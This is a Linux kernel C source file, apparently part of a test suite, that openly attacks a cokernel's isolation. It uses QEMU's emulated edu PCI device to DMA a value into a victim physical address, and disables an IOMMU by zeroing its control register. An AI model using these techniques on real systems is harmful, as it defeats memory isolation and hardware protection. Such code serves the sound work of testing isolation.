// SPDX-License-Identifier: GPL-2.0-only
/*
 * Attacks on a cokernel's memory by DMA of QEMU's device edu, and on the IOMMU.
 */
#include <linux/delay.h>
#include <linux/io.h>
#include <linux/kernel.h>
#include <linux/pci.h>
#include <linux/slab.h>
#include <asm/msr.h>

#include "root.h"

/* QEMU's docs/specs/edu.txt */
#define EDU_FROM	0x80
#define EDU_TO		0x88
#define EDU_BYTES	0x90
#define EDU_COMMAND	0x98
#define EDU_BUFFER	0x40000
#define EDU_START	1
#define EDU_TO_RAM	2

static int edu_copy(u8 __iomem *edu, u64 from, u64 to, u64 command)
{
	int turn;

	writeq(from, edu + EDU_FROM);
	writeq(to, edu + EDU_TO);
	writeq(sizeof(u64), edu + EDU_BYTES);
	writeq(command | EDU_START, edu + EDU_COMMAND);
	for (turn = 0; turn < 500; turn++) {
		msleep(20);
		if (!(readq(edu + EDU_COMMAND) & EDU_START))
			return 0;
	}
	return -ETIMEDOUT;
}

int root_dma(struct kyozon *k, char *unused)
{
	phys_addr_t target = root_victim();
	struct pci_dev *pci = pci_get_device(0x1234, 0x11e8, NULL);
	u64 *words = kcalloc(2, sizeof(*words), GFP_KERNEL);
	u8 __iomem *edu = NULL;
	int error = -ENODEV;

	if (!pci || !words || !target || pci_enable_device(pci))
		goto out;
	edu = pci_ioremap_bar(pci, 0);
	if (!edu)
		goto disable;
	pci_set_master(pci);
	words[0] = rdtsc() | 1;
	error = edu_copy(edu, __pa(&words[0]), EDU_BUFFER, 0);
	if (!error)
		error = edu_copy(edu, EDU_BUFFER, __pa(&words[1]),
				 EDU_TO_RAM);
	/* First a round trip through Linux's own memory: the device works. */
	if (!error && READ_ONCE(words[1]) != words[0])
		error = -EIO;
	if (!error)
		error = edu_copy(edu, EDU_BUFFER, target, EDU_TO_RAM);
	root_report("dma %pa %#llx", &target, words[0]);
	iounmap(edu);
	pci_clear_master(pci);
disable:
	pci_disable_device(pci);
out:
	kfree(words);
	pci_dev_put(pci);
	return error;
}

#define IOMMU_CONTROL	0x18

/* Switches the IOMMU off; @argument: physical address of its registers. */
int root_iommu(struct kyozon *k, char *argument)
{
	u8 __iomem *at;
	u64 registers;

	if (kstrtou64(argument, 0, &registers))
		return -EINVAL;
	at = ioremap(registers, PAGE_SIZE);
	if (!at)
		return -ENOMEM;
	writeq(0, at + IOMMU_CONTROL);
	root_report("iommu %#llx off", registers);
	iounmap(at);
	return 0;
}
